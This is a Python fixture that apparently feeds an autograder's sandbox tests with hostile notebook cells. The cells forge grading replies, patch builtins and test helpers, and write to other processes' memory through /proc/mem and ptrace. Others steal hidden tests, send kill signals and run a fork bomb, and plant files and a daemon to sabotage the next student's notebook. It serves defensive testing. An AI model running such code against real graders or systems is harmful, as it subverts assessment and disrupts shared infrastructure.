"""Hostile answers, as a student who wants marks without answering would write them.

Each attack is Python that goes into the first answer cell of a real assignment's
released notebook (the other answers stay blank). It is generic: the corpus tells
it the assignment's names through a preamble (``FUNCS``: the functions the tests
call, ``VALUES``: the variables they read), so one attack covers every assignment.

An attack that tries to cross the boundary reports each attempt in its own output
(``ATTEMPT <what>: refused`` or ``SUCCEEDED``), which the tests read in the
autograded notebook; every attack must earn 0 on every autograded part.

Classes, as the grading issue lists them (each with several variants):
- ``runner``: replacing the objects the sandbox's runner uses (its codec, its JSON,
  its functions reached through frames' globals), queueing or swallowing cells;
- ``finaliser``: code that runs at clean-up or in other threads (``__del__``,
  ``atexit``, ``weakref.finalize``, a daemon thread, a signal handler);
- ``memory``: reading or writing other processes' memory (``/proc/<pid>/mem`` by odd
  paths, ``dir_fd``, ptrace and process_vm_writev through ctypes), numpy's raw memory,
  a subprocess started by ``_posixsubprocess``, signals to the template;
- ``patch``: a student function that patches builtins and the tests' helpers while
  the test calls it, or returns a lying subclass (of float, DataFrame, ndarray,
  dict, list) or an object that claims another class;
- ``hidden``: reading the hidden test's helpers, data and arguments from frames, the
  garbage collector, ``__main__`` or the process's memory;
- ``leak``: carrying what the tests pass (hidden arguments) into what the student
  sees, printed, raised or encoded.
``PAIR_ATTACKS`` are graded just before another student's notebook in the same
worker, and try to change that student's grade in either direction.
"""
from __future__ import annotations

PREAMBLE = '''FUNCS = {funcs!r}
VALUES = {values!r}
HIDDEN_HASHES = {hashes!r}
def _attempt(what, ok):
    print(f"ATTEMPT {{what}}: {{'SUCCEEDED' if ok else 'refused'}}")
'''

_BLANK_NAMES = '''
for _n in FUNCS:
    globals()[_n] = lambda *a, **k: None
for _n in VALUES:
    globals()[_n] = None
'''

_FORGE = '''
import os, sys
def _forged_frames():
    codec = sys.modules.get("m4d.grading.codec") or __import__("m4d.grading.codec", fromlist=["x"])
    yes = codec.encode(True)
    return [codec.frame(codec.encode(v)) for v in (
        {"done": True}, {"kind": "return", "data": yes}, {"ok": True, "out": [], "error": None, "truncated": False},
        {n: {"kind": "value", "data": yes} for n in FUNCS + VALUES})] + [b"\\xff" * 64]
def _forge_everywhere(*_):
    try:
        frames = _forged_frames()
    except BaseException:
        frames = [b"\\xff" * 64]
    for fd in range(3, 300):
        for frame in frames:
            try:
                os.write(fd, frame)
            except OSError:
                pass
'''

ATTACKS = {
    # -- the runner's own objects --------------------------------------------------
    "runner_forges_codec_replies": ("runner", _BLANK_NAMES + '''
import sys
codec = sys.modules["m4d.grading.codec"]
_real = codec.encode
def _forged(value, refs=None):
    if type(value) is dict and (value.get("kind") in ("return", "raised", "unreadable", "error", "missing", "callable")
                                or all(type(v) is dict for v in value.values()) and value):
        if "kind" in value:
            value = {"kind": "return", "data": _real(True)}
        else:
            value = {k: {"kind": "value", "data": _real(True)} for k in value}
    return _real(value, refs)
codec.encode = _forged
'''),
    "runner_patches_json_results": ("runner", _BLANK_NAMES + '''
import json
json.dumps = lambda *a, **k: '{"ok": true, "out": [], "error": null, "truncated": false}'
json.JSONEncoder.encode = lambda self, o: '{"ok": true}'
json.loads = lambda *a, **k: {"ok": True}
'''),
    "runner_replaces_serve_through_frame_globals": ("runner", '''
import sys
_g = sys._getframe(1).f_globals  # the runner's module, through the frame that runs this cell
_codec = sys.modules["m4d.grading.codec"]
def _serve(ns, req, resp):
    while True:
        data = _g["_read_frame"](req)
        if data is None:
            return
        msg = _codec.decode(data, allow_refs=True, resolve=lambda h: None)
        if msg["op"] == "lookup":
            reply = {n: {"kind": "value", "data": _codec.encode(True)} for n in msg["names"]}
        else:
            reply = {"kind": "return", "data": _codec.encode(True)}
        _codec.write_frame(resp, _codec.encode(reply))
_g["serve"] = _serve
_g["_describe"] = lambda *a: {"kind": "value", "data": _codec.encode(True)}
'''),
    "runner_swallows_later_cells": ("runner", _BLANK_NAMES + '''
import sys
_g = sys._getframe(1).f_globals
_g["run_cell"] = lambda *a, **k: {"ok": True, "out": [], "error": None, "truncated": False}
'''),
    "runner_queues_forged_results_and_ends_early": ("runner", _FORGE + '''
_line = sys._getframe(2).f_locals  # run_line: its out_fd and the snapshots' channels
_codec = sys.modules["m4d.grading.codec"]
for _i in range(40):
    _codec.write_frame(_line["out_fd"], _codec.encode({"pos": _i, "ok": True, "out": [], "error": None, "truncated": False}))
    _codec.write_frame(_line["out_fd"], _codec.encode({"snapshot": _i, "pid": os.getppid()}))
_codec.write_frame(_line["out_fd"], _codec.encode({"done": True}))
os._exit(0)
'''),
    "runner_makes_snapshots_serve_in_the_line": ("runner", _BLANK_NAMES + '''
import os
os.fork = lambda: 0  # the runner would serve the judge in the student's main process
'''),
    # -- finalisers and other threads --------------------------------------------------
    "finaliser_del_forges_frames_at_clean_up": ("finaliser", _BLANK_NAMES + _FORGE + '''
class _AtCleanUp:
    def __del__(self):
        _forge_everywhere()
_keep = _AtCleanUp()
sys.modules["__main__"].__dict__["_keep_too"] = _AtCleanUp()
'''),
    "finaliser_atexit_and_weakref_forge_frames": ("finaliser", _BLANK_NAMES + _FORGE + '''
import atexit, weakref
atexit.register(_forge_everywhere)
class _Token:
    pass
_token = _Token()
weakref.finalize(_token, _forge_everywhere)
sys.unraisablehook = _forge_everywhere
'''),
    "finaliser_daemon_thread_forges_replies": ("finaliser", _BLANK_NAMES + _FORGE + '''
import threading, time
def _loop():
    while True:
        _forge_everywhere()
        time.sleep(0.001)
threading.Thread(target=_loop, daemon=True).start()
'''),
    "finaliser_signal_handlers_forge_frames": ("finaliser", _BLANK_NAMES + _FORGE + '''
import signal
for _sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGCHLD, signal.SIGUSR1):
    signal.signal(_sig, _forge_everywhere)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
'''),
    # -- process memory ---------------------------------------------------------------
    "memory_proc_mem_by_odd_paths": ("memory", _BLANK_NAMES + '''
import os
# The template and the sandbox's init; the student's own snapshots (same uid) are theirs.
for _pid in sorted({os.getppid(), 1}):
    for _path in (f"/proc/{_pid}/mem", f"//proc//{_pid}//mem", f"/proc/self/../{_pid}/mem", f"/proc/./{_pid}/mem"):
        try:
            with open(_path, "r+b", buffering=0) as _fh:
                _fh.seek(0x400000)
                _fh.write(b"\\x00")
            _attempt(f"write {_path}", True)
        except OSError:
            _attempt(f"write {_path}", False)
    try:
        _dir = os.open(f"/proc/{_pid}", os.O_RDONLY)
        _fd = os.open("mem", os.O_RDWR, dir_fd=_dir)
        os.close(_fd)
        _attempt(f"open mem of {_pid} with dir_fd", True)
    except OSError:
        _attempt(f"open mem of {_pid} with dir_fd", False)
    try:
        os.listdir(f"/proc/{_pid}/fd")
        _attempt(f"list the open files of {_pid}", _pid not in (os.getpid(),))
    except OSError:
        _attempt(f"list the open files of {_pid}", False)
'''),
    "memory_capabilities_and_privileges_left_to_the_notebook": ("memory", _BLANK_NAMES + '''
import os
with open("/proc/self/status") as _fh:
    _caps = {l.split(":")[0]: int(l.split()[1], 16) for l in _fh if l.startswith("Cap")}
for _name in ("CapPrm", "CapEff", "CapAmb"):
    _attempt(f"keep a capability ({_name} = {_caps.get(_name, 0):x})", _caps.get(_name, 0) != 0)
for _uid in (0, os.getppid()):
    try:
        os.setuid(_uid)
        _attempt(f"become uid {_uid}", True)
    except OSError:
        _attempt(f"become uid {_uid}", False)
try:
    os.chroot("/tmp")
    _attempt("chroot", True)
except OSError:
    _attempt("chroot", False)
'''),
    "memory_ptrace_and_process_vm_writev": ("memory", _BLANK_NAMES + '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_pid = os.getppid()
_attempt("ptrace-attach the template", _libc.ptrace(16, _pid, None, None) == 0)
_attempt("ptrace-seize the template", _libc.ptrace(0x4206, _pid, None, None) == 0)
class _iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
_buf = ctypes.create_string_buffer(8)
_local = _iovec(ctypes.cast(_buf, ctypes.c_void_p), 8)
_remote = _iovec(0x400000, 8)
_attempt("process_vm_writev into the template", _libc.process_vm_writev(_pid, ctypes.byref(_local), 1, ctypes.byref(_remote), 1, 0) > 0)
_attempt("process_vm_readv from the template", _libc.process_vm_readv(_pid, ctypes.byref(_local), 1, ctypes.byref(_remote), 1, 0) > 0)
'''),
    "memory_numpy_raw_memory_turns_a_lie_into_a_float": ("memory", '''
import ctypes, numpy as np
class _Liar(float):
    def __eq__(self, other):
        return True
def _as_plain_float(x):
    # Overwrite the object's type pointer with raw memory access: type(x) is float now.
    raw = np.ctypeslib.as_array(ctypes.cast(id(x), ctypes.POINTER(ctypes.c_uint64)), shape=(2,))
    raw[1] = id(float)
    return x
for _n in FUNCS:
    globals()[_n] = lambda *a, **k: _as_plain_float(_Liar(0.5))
for _n in VALUES:
    globals()[_n] = _as_plain_float(_Liar(0.5))
'''),
    "memory_subprocess_without_audit_event": ("memory", _BLANK_NAMES + '''
import _posixsubprocess, os, subprocess
_r, _w = os.pipe()
_cmd = f"kill -STOP {os.getppid()} && echo stopped; kill -KILL {os.getppid()} && echo killed; cat /proc/{os.getppid()}/environ && echo read"
_er, _ew = os.pipe()
# The internal function subprocess uses (it raises no audit event), called directly.
_pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", _cmd.encode()], [b"/bin/sh"], True, (_w, _ew), None, None,
                                  -1, -1, -1, _w, -1, _w, _er, _ew, False, False, -1, None, None, None, -1, None, False)
os.close(_ew)
os.close(_w)
_out = b""
while _chunk := os.read(_r, 4096):
    _out += _chunk
os.waitpid(_pid, 0)
for _word in (b"stopped", b"killed", b"read"):
    _attempt(f"the subprocess {_word.decode()} the template", _word in _out)
'''),
    "memory_signals_to_the_template": ("memory", _BLANK_NAMES + '''
import os, signal
for _sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(os.getppid(), _sig)
        _attempt(f"send {_sig.name} to the template", True)
    except OSError:
        _attempt(f"send {_sig.name} to the template", False)
try:
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    _attempt("lower the template's priority", True)
except OSError:
    _attempt("lower the template's priority", False)
'''),
    # -- patches and lying subclasses while the test calls ------------------------------
    "patch_builtins_and_test_helpers_during_the_call": ("patch", '''
def _patch_everything(*args, **kwargs):
    import builtins, math
    import numpy as np, pandas as pd
    builtins.isinstance = lambda *a: True
    builtins.type = lambda *a: (float if len(a) == 1 else type(*a))
    builtins.abs = lambda x: 0
    builtins.float = lambda *a: 0.0
    builtins.sorted = lambda x, **k: list(x)
    builtins.all = builtins.any = lambda *a: True
    math.isclose = lambda *a, **k: True
    np.allclose = np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    pd.testing.assert_frame_equal = pd.testing.assert_series_equal = lambda *a, **k: None
    return None
for _n in FUNCS:
    globals()[_n] = _patch_everything
for _n in VALUES:
    globals()[_n] = None
'''),
    "patch_returns_a_float_that_equals_everything": ("patch", '''
class Agreeable(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __sub__(self, other): return Agreeable(0.0)
    __rsub__ = __sub__
    def __abs__(self): return Agreeable(0.0)
    def __float__(self): return 0.0
for _n in FUNCS:
    globals()[_n] = lambda *a, **k: Agreeable(0.5)
for _n in VALUES:
    globals()[_n] = Agreeable(0.5)
'''),
    "patch_returns_a_dataframe_subclass_that_lies": ("patch", '''
import numpy as np, pandas as pd
class Agreeing(pd.DataFrame):
    @property
    def _constructor(self):
        return Agreeing
    def equals(self, other): return True
    def __eq__(self, other): return pd.DataFrame(True, index=self.index, columns=self.columns)
    @property
    def shape(self): return (5, 3)
for _n in FUNCS:
    globals()[_n] = lambda *a, **k: Agreeing({"a": [1.0]})
for _n in VALUES:
    globals()[_n] = Agreeing({"a": [1.0]})
'''),
    "patch_returns_an_ndarray_subclass_and_a_dict_subclass": ("patch", '''
import numpy as np
class Agreeing(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other) or (1,), dtype=bool)
    @property
    def shape(self): return (3,)
class Yes(dict):
    def __eq__(self, other): return True
_values = [np.zeros(3).view(Agreeing), Yes(), np.matrix([[1.0]])]
for _i, _n in enumerate(FUNCS):
    globals()[_n] = (lambda v: (lambda *a, **k: v))(_values[_i % len(_values)])
for _i, _n in enumerate(VALUES):
    globals()[_n] = _values[_i % len(_values)]
'''),
    "patch_returns_an_object_that_claims_another_class": ("patch", '''
import numpy as np, pandas as pd
class Impostor:
    __class__ = property(lambda self: np.ndarray)
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: True
class ListLike(list):
    def __eq__(self, other): return True
for _n in FUNCS:
    globals()[_n] = lambda *a, **k: Impostor()
for _n in VALUES:
    globals()[_n] = ListLike()
'''),
    # -- the hidden tests' helpers, data and arguments ------------------------------------
    "hidden_helpers_through_frames": ("hidden", '''
import sys
def _steal(*args, **kwargs):
    found = None
    for depth in range(1, 40):
        try:
            frame = sys._getframe(depth)
        except ValueError:
            break
        for scope in (frame.f_locals, frame.f_globals):
            for name, value in list(scope.items()):
                if callable(value) and ("expected" in name or name.startswith("_")) and name != "_steal":
                    try:
                        found = value(*args, **kwargs)
                    except BaseException:
                        pass
    return found
for _n in FUNCS:
    globals()[_n] = _steal
for _n in VALUES:
    globals()[_n] = None
'''),
    "hidden_helpers_through_the_garbage_collector": ("hidden", '''
import gc, types
def _hunt(*args, **kwargs):
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__code__.co_filename.startswith("<test"):
            try:
                return obj(*args, **kwargs)
            except BaseException:
                pass
        if isinstance(obj, dict):
            for key in [k for k in obj if isinstance(k, str) and k.startswith("_exp")]:
                return obj[key]
    return None
for _n in FUNCS:
    globals()[_n] = _hunt
for _n in VALUES:
    globals()[_n] = None
_tests = [o for o in gc.get_objects() if isinstance(o, types.FunctionType) and o.__code__.co_filename.startswith("<test")]
_attempt("find a test's function in this process", bool(_tests))
'''),
    "hidden_tests_hunted_in_memory_and_files": ("hidden", _BLANK_NAMES + '''
import gc, hashlib, os, time, types
# The cell's time limit is 10 s: a loaded machine must still see the attack report, so the
# hunt stops after 6 s with what it has read (memory first, where the judge would leak).
_until = time.monotonic() + 6
def _lines_of(text):
    return {hashlib.sha256(line.strip().encode("utf-8", "replace")).hexdigest() for line in text.splitlines()}
_seen = set()
for _obj in gc.get_objects():
    if time.monotonic() > _until:
        break
    if isinstance(_obj, dict):
        _items = list(_obj.values())
    elif isinstance(_obj, (list, tuple)):
        _items = list(_obj)
    else:
        _items = []
    for _item in _items:
        # One object can be big (a module's namespace, a cache): the clock is read inside it too.
        if time.monotonic() > _until:
            break
        if isinstance(_item, str) and len(_item) > 12:
            _seen |= _lines_of(_item)
        elif isinstance(_item, types.CodeType):
            _seen |= set().union(*[_lines_of(c) for c in _item.co_consts if isinstance(c, str)] or [set()])
for _root in ("/tmp", "/dev/shm", os.getcwd()):
    for _dir, _, _files in os.walk(_root):
        if time.monotonic() > _until:
            break
        for _f in _files:
            if time.monotonic() > _until:
                break
            try:
                _seen |= _lines_of(open(os.path.join(_dir, _f), errors="replace").read())
            except OSError:
                pass
_attempt("find a hidden test's line in memory or files", bool(_seen & set(HIDDEN_HASHES)))
'''),
    # -- leaks into what the student sees -------------------------------------------------
    "leak_prints_hidden_arguments_during_the_call": ("leak", '''
import base64, os, sys
def _shout(*args, **kwargs):
    text = "AR" + "GS:" + base64.b64encode(repr((args, kwargs)).encode()).decode()
    print(text)
    print(text, file=sys.stderr)
    os.write(1, text.encode())
    os.write(2, text.encode())
    sys.__stdout__.write(text)
    return None
for _n in FUNCS:
    globals()[_n] = _shout
for _n in VALUES:
    globals()[_n] = None
'''),
    "leak_raises_hidden_arguments": ("leak", '''
import base64
def _raise(*args, **kwargs):
    raise ValueError("AR" + "GS:" + base64.b64encode(repr((args, kwargs)).encode()).decode())
for _n in FUNCS:
    globals()[_n] = _raise
for _n in VALUES:
    globals()[_n] = None
'''),
}

# Graded just before a victim in the same worker. Each tries to reach the next
# notebook's processes, or to leave something behind for it.
PAIR_ATTACKS = {
    "leaves_a_daemon_that_attacks_the_next_notebook": '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import sys
        codec = sys.modules["m4d.grading.codec"]
        yes = codec.frame(codec.encode({"kind": "return", "data": codec.encode(True)}))
        me = os.getpid()
        end = time.time() + 60
        while time.time() < end:
            for p in os.listdir("/proc"):
                if not p.isdigit() or int(p) in (me, 1):
                    continue
                try:
                    for fd in os.listdir(f"/proc/{p}/fd"):
                        try:
                            with open(f"/proc/{p}/fd/{fd}", "wb", buffering=0) as fh:
                                fh.write(yes)
                        except OSError:
                            pass
                    with open(f"/proc/{p}/mem", "r+b", buffering=0) as fh:
                        fh.seek(0x400000)
                        fh.write(b"\\x00" * 8)
                except OSError:
                    pass
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)
''',
    "stops_and_starves_the_template": '''
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), sig)
    except OSError:
        pass
try:
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
except OSError:
    pass
while True:
    try:
        os.fork()
    except OSError:
        break
''',
    "plants_files_for_the_next_notebook": '''
import os
for name in os.listdir("."):
    if not name.endswith(".ipynb") and os.path.isfile(name):
        with open(name, "w") as fh:
            fh.write("a,b\\n1,2\\n")
os.makedirs(".config/matplotlib", exist_ok=True)
open(".config/matplotlib/matplotlibrc", "w").write("backend: nonexistent\\n")
for folder in (".", "/tmp", "/dev/shm"):
    for module in ("numpy.py", "pandas.py", "sitecustomize.py", "usercustomize.py"):
        try:
            open(os.path.join(folder, module), "w").write("raise SystemExit('planted')\\n")
        except OSError:
            pass
try:
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmget(0x4D344421, 1 << 20, 0o1666)
except Exception:
    pass
''',
    "fills_memory_and_disk_and_leaves": '''
import os
try:
    with open("/tmp/filler", "wb") as fh:
        for _ in range(48):
            fh.write(b"\\0" * (1 << 20))
except OSError:
    pass
hog = bytearray(400 * 1024 * 1024)
''',
}
